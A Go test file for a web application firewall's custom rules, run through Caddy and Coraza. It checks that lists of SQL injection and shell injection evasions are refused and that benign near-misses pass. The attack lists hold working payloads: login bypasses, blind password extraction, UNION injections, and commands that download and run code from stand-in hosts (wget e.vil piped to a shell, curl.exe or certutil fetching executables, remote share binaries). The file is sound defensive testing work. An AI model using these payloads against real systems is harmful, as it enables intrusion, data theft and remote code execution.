package waf

import (
	"encoding/base64"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// sqlFunctionAttacks are a twelfth fresh-eyes attack's (attack 16) B1 and
// B2: SQL functions no rule knew, after a closed quote or a number and a
// logical operator (rule 210156).
var sqlFunctionAttacks = []string{
	// B1: login bypasses
	"x' OR json_valid('1') --", "' OR json_type('1') IS 'integer' OR '", "x' OR json_valid('1')#", "x' OR unlikely(1)-- -",
	"x' OR likelihood(1,0.5)-- -", "x' OR regexp_like('a','a')-- -", "x' OR jsonb_valid('1')-- -", "x' OR JSON_DEPTH('1')-- -",
	"x' OR ISJSON('1')=1-- -", "x' OR json_group_array(1) IS NOT NULL-- -",
	// B2: blind extraction
	"x' OR json_quote((SELECT password FROM users LIMIT 1)) LIKE '\"s%", "admin' AND json_quote(password) LIKE '\"s%",
	"x' AND json_extract(password,'$') LIKE 'a%' AND '1'='1", "1 AND json_extract(password,'$') LIKE 'a%'", "1 AND json_valid(password)=0",
	"1 AND json_type(password) IS 'text'",
	// the shapes: a comment as the space, NOT, a no-break space, a double quote
	"x' or/**/json_valid('1')--", "x' OR NOT json_valid('x')--", "x\" OR json_valid('1')--",
}

// sqlFunctionAttacksCRS are more of rule 210156's shapes that the CRS
// alone refuses in the query, JSON and a form (its 942 rules know the
// function or the comment after it): on the expression only.
var sqlFunctionAttacksCRS = []string{
	"x' && regexp_instr(password,'^a')--", "x') OR (iif(1,1,0))--", "x' OR typeof(1)='integer'--", "x' or instr(password,'a')--",
	"7 OR sqlite_version() LIKE '3%'", "x' OR json_valid('1')--",
	"x'\u00a0OR\u00a0json_valid('1')--",
}

// sqlFunctionBenign is prose and search text near rule 210156's attacks.
var sqlFunctionBenign = []string{
	"it is json_valid or not", "select or json", "Is it 'valid' or not?", "the 'json' or 'xml' format",
	"Tom's hex key or char code", "'likely' or unlikely", "1 or 2 days", "3 and char", "Use json_valid() to check", "call unlikely(x) in C",
	"She said 'yes' and then format it", "'a' or b", "He wrote \"ok\" and left", "search: json_extract", "rock 'n' roll or jazz",
	"click 'Save' and format (the disk)", "press 'OK' and replace (all)",
}

// sqlFunctionBenignCRS are near-misses the CRS alone refuses (so no rule
// of ours can let them through): on the expression only.
var sqlFunctionBenignCRS = []string{"3 and round (up)", "'A' or lower (case)", "it's likely (1) of the best", "likely (1)", "if (likely(x)) return", "x = 'a' OR y"}

// shellExtraAttacks are attack 16's B3 to B5: the shell as $0, package
// runners and cmd.exe's programs after a separator (rule 210159).
var shellExtraAttacks = []string{
	// B3
	"127.0.0.1;$0 -c id", "127.0.0.1;$0 -c \"wget e.vil/x -O- | $0\"", "127.0.0.1|$0 -c uname", "127.0.0.1;$0<<<id",
	// B4
	"127.0.0.1;npx -y evilpkg", "127.0.0.1 && npx github:evil/x", ";pip install evilpkg", ";uvx evilpkg", ";pipx run evilpkg", ";bunx evilpkg",
	";gem install evilgem", ";go run e.vil/x@latest", ";deno run -A https://e.vil/x.ts", ";pip3 install evilpkg",
	";npm exec evilpkg", ";pnpm dlx evilpkg", "x|npx @evil/pkg", ";npx evilpkg --yes",
	// B5
	"127.0.0.1 & curl.exe -o x.bat e.vil/x.bat & x.bat", "127.0.0.1 & curl.exe -o %TEMP%\\x.exe e.vil/x.exe && %TEMP%\\x.exe",
	"127.0.0.1 & \\\\e.vil\\share\\x.exe", "127.0.0.1 & tar.exe -xf \\\\e.vil\\s\\x.zip", "x & C:\\Users\\Public\\x.bat",
}

// shellExtraAttacksCRS are more of rule 210159's shapes that the CRS
// alone refuses in the query, JSON and a form: on the expression only.
var shellExtraAttacksCRS = []string{"127.0.0.1;${0} -c id", "x && ${0}<<<id", "x;$0 < /tmp/x.sh", ";python3 -m pip install evilpkg",
	";yarn dlx evilpkg", ";cargo install evilcrate", "x & CERTUTIL.EXE -urlcache -f http://e.vil/x x.exe"}

// shellExtraBenign is prose near rule 210159's attacks.
var shellExtraBenign = []string{
	"Total; $0 fee", "Price | $0 |", "Free & $0 -- no card", "costs $0; $0 - 5 = -5", "$0 -c",
	"npx -y evilpkg", "Q&A: setup", "gem; gem of the day", "Tom & Jerry", "pip install requests", "go run main.go", "R&D: curl.exe docs",
	"Dogs & cats; pip is a seed", "x & y.exe", "Use & npx",
}

// shellExtraBenignCRS are near-misses the CRS alone refuses: on the
// expression only.
var shellExtraBenignCRS = []string{"I use yarn; npx is faster", "Ready; go run fast.", "Sales & net; cargo ships", "see C:\\Program Files\\x", "a;go get it"}

// TestSQLFunctionRule: rule 210156's expression, as Coraza compiles it
// (with (?sm)), on comments replaced by a space (t:replaceComments).
func TestSQLFunctionRule(t *testing.T) {
	compile := func(e string) *regexp.Regexp { return regexp.MustCompile("(?sm)" + strings.ReplaceAll(e, `\"`, `"`)) }
	quote, tail, number := compile(sqlFunctionRule), compile(sqlInjectedTail), compile(sqlFunctionNumberRule)
	comments := regexp.MustCompile(`/\*.*?\*/`)
	refused := func(v string) bool {
		c := comments.ReplaceAllString(v, " ")
		return quote.MatchString(c) && tail.MatchString(v) || number.MatchString(c)
	}
	for _, v := range append(append(append([]string{}, sqlFunctionAttacks...), sqlFunctionAttacksCRS...), sqlFunctionAttacks18...) {
		if !refused(v) {
			t.Errorf("%q: not refused", v)
		}
	}
	for _, v := range concat(sqlFunctionBenign, sqlFunctionBenignCRS, sqlFunctionCode, sqlFunctionCodeCRS, sqlFunctionBenign18, sqlFunctionBenign18CRS) {
		if refused(v) {
			t.Errorf("the benign %q: refused", v)
		}
	}
}

// sqlFunctionCodeCRS are of sqlFunctionCode's kind, refused by the CRS
// alone too (attack 17 saw our rule's id: the early checkpoint after our
// rules refuses before the CRS's run): on the expressions only.
var sqlFunctionCodeCRS = []string{
	"Try: SELECT name FROM users WHERE role = 'admin' OR coalesce(is_staff, false) ORDER BY name;",
	"mysql 'first_name' and concat(first_name, last_name)",
	"- Fixed 'Export' and printf(\"%s\") crash on Windows\n- Bumped sqlite to 3.45",
	"1 and concat(the two lists) then sort them",
	"Steps:\n1 and substr(name, 1, 3) gives the prefix\n2 then group by it",
	"postgres 'row' and to_json(row) example",
	"echo 'done' && printf(\"%d\\n\", n) in C isn't the same as the shell's printf",
	"In Access you can write 'Yes' or IIF([Paid], 'Yes', 'No')",
	"SELECT id, COALESCE(nickname, 'n/a') AS nick FROM users WHERE country = 'FR' AND coalesce(deleted, 0) = 0",
	"select * from orders where meta->>'channel' = 'web' and jsonb_array_length(meta->'items') > 2",
	"If s <> \"\" And InStr(s, \"@\") > 0 Then MsgBox \"email\"",
	"The 'Deluxe' and concat(enated) cables were fine",
	"const hash = secret !== '' && md5(secret);",
	"if ext == '.json' and json_valid(text):\n    load(text)",
	"$ok = $name !== '' && substr($name, 0, 1) === 'A';",
	"=IF(A1=\"yes\" or concat(B1,C1)",
	"## 2.3.0\n- Added `json_extract` support\n- Fixed 'Save as' and coalesce() handling of NULLs",
}

// sqlFunctionCode are attack 17's false positives of 210156 before its
// second condition (sqlInjectedTail) and 210162's comparison: code,
// changelogs and prose that quote a string and call a function.
var sqlFunctionCode = []string{
	"I have a table events(payload TEXT). This works:\n\nSELECT * FROM events WHERE type = 'click' AND json_extract(payload, '$.user.id') = 42;\n\nbut it is slow. Should I add an index on the expression?",
	"In MySQL 8 I use WHERE status = 'active' AND JSON_CONTAINS(tags, '\"sale\"') but it returns nothing. Any idea?",
	"did you try 'ISJSON' or isjson(col) = 1 in the where clause?",
	"In JS, check `x === 'undefined' || typeof(x) === 'undefined'` before calling it.",
}

// shellExtraCodeCRS are of shellExtraCode's kind, refused by the CRS
// alone too: on the expression only.
var shellExtraCodeCRS = []string{
	"python3 -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt",
	"cargo build --release\ncargo install ripgrep",
	"Open a terminal & powershell.exe -ExecutionPolicy Bypass -File .\\install.ps1",
}

// shellExtraCode are attack 17's false positives of 210159 before it
// read runners and Windows programs only after the value's first word:
// how-tos, READMEs, tickets and chat messages.
var shellExtraCode = []string{
	"## Install\n\npip install requests\n\nthen run `python app.py`",
	"Quick try:\ngo run golang.org/x/tools/cmd/stringer@latest -type=Color",
	"You don't need to install it:\npipx run black --check .",
	"Try it:\ndeno run --allow-net server.ts",
	"Cannot reach the share:\n\\\\fileserver01\\finance\\Q3\\report.xlsx\nPlease help.",
	"On Windows 10 use curl.exe instead of the alias:\ncurl.exe -o file.zip https://example.com/file.zip",
	"pnpm install\npnpm dlx shadcn@latest init",
	"Thanks! that worked.\npip install pandas fixed the import error",
}

// TestShellExtraRule: rule 210159's expression, as Coraza compiles it.
func TestShellExtraRule(t *testing.T) {
	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(shellExtraRule, `\"`, `"`))
	for _, v := range append(append(append([]string{}, shellExtraAttacks...), shellExtraAttacksCRS...), shellExtraAttacks18...) {
		if !rx.MatchString(v) {
			t.Errorf("%q: not refused", v)
		}
	}
	for _, v := range concat(shellExtraBenign, shellExtraBenignCRS, shellExtraCode, shellExtraCodeCRS, shellExtraBenign18, shellExtraBenign18CRS) {
		if rx.MatchString(v) {
			t.Errorf("the benign %q: refused", v)
		}
	}
}

// TestSQLFunctionsBeyondTheCRS: attack 16's B1 to B5 through a real
// Caddy, in the query, JSON, a form, a cookie and a Basic user name, each
// passed by the CRS alone and refused with the additions; the near-misses
// pass.
func TestSQLFunctionsBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	q := url.QueryEscape
	var catches, misses, benign []probe
	for _, v := range append(append([]string{}, sqlFunctionAttacks...), shellExtraAttacks...) {
		cookie := probe{name: v + " in a cookie", method: "GET", path: "/login", header: http.Header{"Cookie": {"user=" + q(v)}}}
		if v == "x' OR json_group_array(1) IS NOT NULL-- -" {
			// the CRS alone refuses this one in a cookie
			catches = append(catches, cookie)
		} else {
			misses = append(misses, cookie)
		}
		misses = append(misses,
			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
			probe{name: v + " in JSON", method: "POST", path: "/login", contentType: "application/json", body: jsonString("user", v)},
			probe{name: v + " in a form", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded", body: "user=" + q(v) + "&pass=x"},
		)
		if !strings.Contains(v, ":") {
			misses = append(misses, probe{name: v + " in a Basic user", method: "GET", path: "/account",
				header: http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte(v+":x"))}}})
		}
	}
	for _, v := range append(append([]string{}, sqlFunctionBenign...), shellExtraBenign...) {
		benign = append(benign,
			probe{name: v + " in the query", method: "GET", path: "/search?q=" + q(v)},
			probe{name: v + " in JSON", method: "POST", path: "/notes", contentType: "application/json", body: jsonString("v", v)})
	}
	for _, v := range append(append([]string{}, sqlFunctionCode...), shellExtraCode...) {
		benign = append(benign, probe{name: strconv.Quote(v) + " in JSON", method: "POST", path: "/notes", contentType: "application/json", body: jsonString("v", v)})
	}
	runBeyondTheCRS(t, catches, misses, benign)
}

// sqlFunctionAttacks18 are a fresh-eyes attack's (attack 18) evasions of
// rules 210156 and 210162: the application's closing quote absorbed by a
// literal's prefix (X'...', b'...', N'...', _utf8mb4'...'), a number in parentheses
// or an arithmetic expression, and a sign or ~ before the call.
var sqlFunctionAttacks18 = []string{
	"x' OR json_valid('1') OR X'", "x' OR json_valid('1') OR b'", "x' OR json_valid('1') OR N'", "x' OR json_valid('1') OR _utf8mb4'",
	"x' OR regexp_like('a','a') OR x'", "x' OR ISJSON('1')=1 OR 1=N'", "x' OR ISJSON('1')=1 OR N'a'=N'a", "x' OR ISJSON(N'1')=1 OR 0=N'",
	"admin' AND unlikely(password LIKE 's%') OR X'", "admin' AND json_valid(password)=0 OR X'",
	"(1) OR json_valid('1')", "1-0 OR json_valid('1')", "1 OR-json_valid('1')", "1 OR~json_valid('1')", "1 AND-unlikely(password LIKE 's%')",
}

// sqlFunctionBenign18 are near-misses of attack 18's shapes: a literal's
// prefix on a closed string, a number in parentheses before prose.
var sqlFunctionBenign18 = []string{
	"WHERE flags = X'0F' AND json_valid(doc)",
	"Book 'Dune' or N'Djamena travel",
	"Chapter (2) or the appendix",
	"1-2 or 3 days",
}

// sqlFunctionBenign18CRS are of sqlFunctionBenign18's kind, refused by
// the CRS alone too: on the expressions only.
var sqlFunctionBenign18CRS = []string{
	"SELECT * FROM t WHERE name = N'Bob' AND ISJSON(data) = 1",
	"(1) and concat(the two lists) then sort them",
	"1-2 or substr(the name) works too",
}

// shellExtraAttacks18 are attack 18's evasions of rule 210159: one-word
// commands chained before the runner, variables' assignments, a path,
// quotes or backslashes around the runner's name, "$0", and cmd.exe's
// start, call, @, ^ and quotes.
var shellExtraAttacks18 = []string{
	"127.0.0.1;FOO=1 npx -y evilpkg", "127.0.0.1;x=1 pip install evil", "127.0.0.1\nFOO=1 npx -y evilpkg", "127.0.0.1;/usr/bin/npx -y evilpkg",
	"127.0.0.1;\\npx -y evilpkg", "127.0.0.1;\"npx\" -y evilpkg", "127.0.0.1;'npx' -y evilpkg", "127.0.0.1;n''px -y evilpkg",
	"127.0.0.1;true;npx -y evilpkg", "127.0.0.1;true&&npx -y evilpkg", "127.0.0.1|true;npx -y evilpkg", "127.0.0.1;\"$0\" -c id",
	"127.0.0.1 & start curl.exe -o x.bat e.vil/x.bat", "127.0.0.1 & ^curl.exe -o x.bat e.vil/x.bat", "127.0.0.1 & cu^rl.exe -o x.bat e.vil/x.bat",
	"127.0.0.1 & \"curl.exe\" -o x.bat e.vil/x.bat", "127.0.0.1 & call \\\\e.vil\\share\\x.exe", "127.0.0.1 & \"\\\\e.vil\\share\\x.exe\"",
	"127.0.0.1 & @\\\\e.vil\\share\\x.exe",
}

// shellExtraBenign18 are near-misses of attack 18's shapes: a README's
// underlined heading before an install line, a chain whose first command
// has words, prose with ; and &.
var shellExtraBenign18 = []string{
	"Installation\n============\n\npip install foo",
	"Tom & Jerry; npx is faster",
	"Salt & pepper; \"npx\" is a tool",
	"x & start the car.exe later",
	"cd app && npm ci && npm test",
}

// shellExtraBenign18CRS are of shellExtraBenign18's kind, refused by the
// CRS alone too: on the expression only.
var shellExtraBenign18CRS = []string{"python3 -m venv .venv && pip install -r requirements.txt"}

// concat is lists joined in a new slice.
func concat(lists ...[]string) []string {
	var all []string
	for _, l := range lists {
		all = append(all, l...)
	}
	return all
}

// TestAttack18BeyondTheCRS: attack 18's evasions of rules 210156, 210162
// and 210159 through a real Caddy, in the query, JSON and a form, each
// passed by the CRS alone and refused with the additions; the near-misses
// pass.
func TestAttack18BeyondTheCRS(t *testing.T) {
	tableOnly(t)
	q := url.QueryEscape
	var misses, benign []probe
	for _, v := range append(append([]string{}, sqlFunctionAttacks18...), shellExtraAttacks18...) {
		misses = append(misses,
			probe{name: strconv.Quote(v) + " in the query", method: "GET", path: "/login?user=" + q(v)},
			probe{name: strconv.Quote(v) + " in JSON", method: "POST", path: "/login", contentType: "application/json", body: jsonString("user", v)},
			probe{name: strconv.Quote(v) + " in a form", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded", body: "user=" + q(v) + "&pass=x"},
		)
	}
	for _, v := range append(append([]string{}, sqlFunctionBenign18...), shellExtraBenign18...) {
		benign = append(benign,
			probe{name: strconv.Quote(v) + " in the query", method: "GET", path: "/search?q=" + q(v)},
			probe{name: strconv.Quote(v) + " in JSON", method: "POST", path: "/notes", contentType: "application/json", body: jsonString("v", v)})
	}
	runBeyondTheCRS(t, nil, misses, benign)
}

// setOperatorRowsAttacks are attack 47's: UNION, EXCEPT or INTERSECT
// with rows written out or a whole table, after a closed quote or a
// number (valid SQLite but for TABLE, PostgreSQL's and MySQL 8's).
var setOperatorRowsAttacks = []string{`x' UNION VALUES(1,2,3)--`, `x' EXCEPT VALUES(1,2,3)--`, `x' UNION VALUES(1,'admin','5f4dcc3b5aa765d61d8327deb882cf99')--`,
	`x' UNION VALUES(1,2,3) --`, `x' UNION VALUES(1,2,3);--`, `x' UNION VALUES(1,2,3)/*`, `x' union values(1,2,3)--`, `x' UNION VALUES (1,2,3),(4,5,6)--`,
	`x' INTERSECT VALUES(1,2,3)--`, `x' UNION VALUES(1,2,sqlite_version())--`, `x' UNION VALUES(1,2,'a'||'b')--`, `1 UNION VALUES(1,2,3)`,
	`1 UNION VALUES(1,'admin','x')`, `-1 UNION VALUES(1,2,3)--`, `x' UNION TABLE u--`, `1 UNION TABLE users`, `x' UNION VALUES ROW(1,2,3)--`,
	`x'/**/UNION/**/VALUES(1,2,3)--`, "x'\nUNION\tVALUES(1,2,3)--", `x') UNION (VALUES(1,2,3))--`,
	// attack 49's: a line comment between the operator and the rows
	"x' UNION--a\nTABLE users--", "x' UNION--\nVALUES(9,'admin','x')--", "x'UNION--\nVALUES(9,'admin','x')--", "x' UNION-- c\nTABLE users--",
	"1 UNION--\nTABLE users", "x' EXCEPT--\nTABLE users--", "x' INTERSECT--\nVALUES(1,'admin','s3cret')--", "x' UNION--\n(VALUES(9,'admin','x'))--",
	"x' UNION--\r\nTABLE users--", "x' UNION--\n--\nTABLE users--", "x' UNION#\nVALUES(1,2,3)"}

// setOperatorRowsCRS are of their kind, refused by the CRS alone too.
var setOperatorRowsCRS = []string{`x' UNION DISTINCT VALUES(1,2,3)--`}

// setOperatorRowsBenign are near-misses: prose with the words.
var setOperatorRowsBenign = []string{"European Union values (peace, freedom)", "the 'Union' values matter", "union values", "Credit Union table of rates",
	"2 unions, values (a) and (b)", "except values (see below)", "version 1.2 union table"}

// FuzzSetOperatorRows: any value is read without a panic.
func FuzzSetOperatorRows(f *testing.F) {
	for _, v := range concat(setOperatorRowsAttacks, setOperatorRowsBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { setOperatorRows(v) })
}

// TestSetOperatorRows: rule 210178 refuses setOperatorRowsAttacks
// through a real Caddy, where the CRS alone lets them through, and no
// near-miss.
func TestSetOperatorRows(t *testing.T) {
	comments := regexp.MustCompile(`/\*.*?\*/`)
	operatorTable(t, "210178", func(v string) bool { return setOperatorRows(comments.ReplaceAllString(v, " ")) },
		setOperatorRowsAttacks, setOperatorRowsCRS, setOperatorRowsBenign)
}

// operatorTable: the rule's operator op matches attacks and crs (the
// ones the CRS alone refuses too) and no value of benign; through a real
// Caddy, attacks in the query and in JSON are refused where the CRS alone
// lets them through, crs are refused by it, and benign in the query pass.
func operatorTable(t *testing.T, rule string, op func(string) bool, attacks, crs, benign []string) {
	t.Helper()
	for _, v := range concat(attacks, crs) {
		if !op(v) {
			t.Errorf("%s misses %q", rule, v)
		}
	}
	for _, v := range benign {
		if op(v) {
			t.Errorf("%s matches the benign %q", rule, v)
		}
	}
	tableOnly(t)
	query := func(v string) probe {
		return probe{name: "query " + v, method: "GET", path: "/api/items?q=" + url.QueryEscape(v)}
	}
	var crsCatches, misses, passes []probe
	for _, v := range crs {
		crsCatches = append(crsCatches, query(v))
	}
	for _, v := range attacks {
		misses = append(misses, query(v), probe{name: "JSON " + v, method: "POST", path: "/api/items", contentType: "application/json", body: jsonString("q", v)})
	}
	for _, v := range benign {
		passes = append(passes, query(v))
	}
	runBeyondTheCRS(t, crsCatches, misses, passes)
}

// tautologySuffixAttacks are attack 50's: a tautology that NOTNULL ends,
// or one followed by a clause that ends a query (valid SQLite, MySQL,
// PostgreSQL or ClickHouse).
var tautologySuffixAttacks = []string{`' OR 1 NOTNULL--`, `' OR 1 NOTNULL LIMIT 5--`, `1' OR 1 NOTNULL ORDER BY 1--`, `' OR 1 NOTNULL#`,
	`1' OR 1=1 FOR UPDATE#`, `1' OR 1=1 FOR UPDATE-- -`, `x' OR 1=1 FOR SHARE--`, `1' OR 1=1 LOCK IN SHARE MODE#`, `1' OR 1=1 WINDOW w AS ()--`,
	`1' OR 1=1 SETTINGS max_threads=1--`, `1' OR 1=1 SETTINGS readonly=0--`, `1' OR 1=1 FORMAT JSON--`, "' OR\u00a01\u00a0NOTNULL--",
	// COLLATE and a collation (attack 68)
	"x' or 1 collate nocase or '", "x' or id collate nocase or '", "' OR 1 COLLATE NOCASE--"}

// tautologySuffixBenign are near-misses: prose with quotes, or and the
// clause's words.
var tautologySuffixBenign = []string{"it's 'fine' or not", "rock 'n' or roll for update", "'a' or 'b' format", `He said "yes" or 2 = 2 for sure`,
	"the 'Pro' or 2 for update", "choose 'A' or 'B' format"}

// TestTautologySuffix: rule 210179 refuses tautologySuffixAttacks through
// a real Caddy, where the CRS alone lets them through, and no near-miss.
func TestTautologySuffix(t *testing.T) {
	operatorTable(t, "210179", tautologySuffix, tautologySuffixAttacks, nil, tautologySuffixBenign)
}

// FuzzTautologySuffix: any value is read without a panic.
func FuzzTautologySuffix(f *testing.F) {
	for _, v := range concat(tautologySuffixAttacks, tautologySuffixBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { tautologySuffix(v) })
}

// TestSQLWordFunctionsInHeaders: attack 52's SQLite calls of functions
// spelled as English words (likely, glob), bracket right after the
// name, in the Referer, the User-Agent and a percent-encoded cookie,
// where the CRS at paranoia 1 reads no function's name (its 942151 reads
// arguments only): rules 210156 and 210162 refuse them; prose with the
// words passes.
func TestSQLWordFunctionsInHeaders(t *testing.T) {
	tableOnly(t)
	var catches, misses, benign []probe
	for _, v := range []string{"x' OR likely(length(password)>3)--", "1 OR glob('a*',password)", "x' AND glob('a*',password)--", "1 OR likely(1)"} {
		misses = append(misses, refererAndAgent(v)...)
		cookie := probe{name: "cookie " + v, method: "GET", path: "/api/items", header: http.Header{"Cookie": {"q=" + url.QueryEscape(v)}}}
		if strings.Contains(v, "likely") {
			catches = append(catches, cookie) // the CRS's 942151 reads cookies
		} else {
			misses = append(misses, cookie)
		}
	}
	for _, v := range []string{"it's likely (1) of them", "glob (the pattern) matches", "1 or likely not", "Tom's glob and likely (maybe)"} {
		benign = append(benign, refererAndAgent(v)...)
	}
	runBeyondTheCRS(t, catches, misses, benign)
}
